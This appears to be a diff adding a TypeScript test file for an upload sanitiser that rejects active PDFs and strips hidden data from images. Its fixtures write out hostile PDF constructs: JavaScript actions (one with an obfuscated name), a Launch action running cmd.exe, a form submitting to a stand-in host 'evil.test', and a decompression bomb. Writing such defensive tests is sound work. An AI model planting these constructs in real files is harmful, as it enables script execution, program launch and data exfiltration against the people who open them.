@@ -1,0 +1,79 @@
+import { deflateSync } from 'node:zlib'
+import sharp from 'sharp'
+import { describe, expect, test } from 'vitest'
+import { carriers, hidden } from '#tests/support/pictures/attacks.ts'
+import { checkedPaper, kindOfPaper } from './paper.ts'
+
+/** A PDF of these objects; what reads it here needs no table of them. */
+const pdf = (...objects: (string | Buffer)[]) =>
+  Buffer.concat([
+    Buffer.from('%PDF-1.7\n'),
+    ...objects.map((object, index) =>
+      Buffer.concat([Buffer.from(`${index + 1} 0 obj\n`), Buffer.from(object), Buffer.from('\nendobj\n')]),
+    ),
+    Buffer.from('trailer << /Root 1 0 R >>\n%%EOF\n'),
+  ])
+const page = '<< /Type /Catalog /Pages 2 0 R /OpenAction [3 0 R /Fit] >>'
+const packed = (text: string) => {
+  const body = deflateSync(Buffer.from(text))
+  const head = `<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length ${body.length} >>\nstream\n`
+  return Buffer.concat([Buffer.from(head), body, Buffer.from('\nendstream')])
+}
+
+describe('a PDF', () => {
+  test('that only is read stays as it is', async () => {
+    const file = pdf(page, packed('4 0 << /Type /Page >>'))
+    expect(await checkedPaper(file)).toEqual({
+      bytes: file,
+      contentType: 'application/pdf',
+      extension: 'pdf',
+    })
+  })
+
+  test.each([
+    ['a script', pdf(page, '<< /S /JavaScript /JS (app.alert(1)) >>')],
+    ['a script whose name is written in numbers', pdf(page, '<< /S /J#61vaScript /JS (x) >>')],
+    ['a script that lies packed', pdf(page, packed('4 0 << /S /JavaScript /JS (x) >>'))],
+    ['a program to be started', pdf(page, '<< /S /Launch /F (cmd.exe) >>')],
+    ['a file inside', pdf(page, '<< /Names << /EmbeddedFiles 7 0 R >> >>')],
+    ['a form that sends', pdf(page, '<< /S /SubmitForm /F (http://evil.test) >>')],
+    ['a password', pdf(page, '<< /Encrypt 9 0 R >>')],
+  ])('with %s is refused', async (_, file) => {
+    await expect(checkedPaper(file)).rejects.toMatchObject({ name: 'PaperActive' })
+  })
+
+  test.each([
+    ['that is cut off', pdf(page).subarray(0, 40)],
+    ['that unpacks to more than any honest one', pdf(page, packed('x'.repeat(70_000_000)))],
+    [
+      'that hides what is packed',
+      pdf(page, packed('4 0').toString('latin1').replace('/ObjStm', '/Obj#53tm')),
+    ],
+  ])('%s cannot be read', async (_, file) => {
+    await expect(checkedPaper(file)).rejects.toMatchObject({ name: 'PictureUnusable' })
+  })
+})
+
+describe('a picture', () => {
+  test('of a phone is drawn anew, upright, smaller, with nothing but its pixels', async () => {
+    const photo = await sharp({ create: { width: 4_032, height: 3_024, channels: 3, background: '#2a6' } })
+      .jpeg()
+      .withMetadata({ orientation: 6, exif: { IFD0: { Copyright: 'SECRET-CAMERA' } } })
+      .toBuffer()
+    const { bytes, contentType } = await checkedPaper(photo)
+    expect(contentType).toBe('image/jpeg')
+    expect(await sharp(bytes).metadata()).toMatchObject({ format: 'jpeg', width: 1_650, height: 2_200 })
+    expect(bytes.includes('SECRET-CAMERA')).toBe(false)
+  })
+
+  test('that carries something hidden loses it', async () => {
+    for (const carrier of Object.values(carriers))
+      expect((await checkedPaper(await carrier())).bytes.includes(hidden)).toBe(false)
+  })
+
+  test('is told by its bytes, whatever it is called', () => {
+    expect(kindOfPaper(Buffer.from('<script>alert(1)</script>'))).toBeUndefined()
+    expect(kindOfPaper(Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"/>'))).toBeUndefined()
+    expect(kindOfPaper(Buffer.from('MZ\x90\0'))).toBeUndefined()
+  })
+})
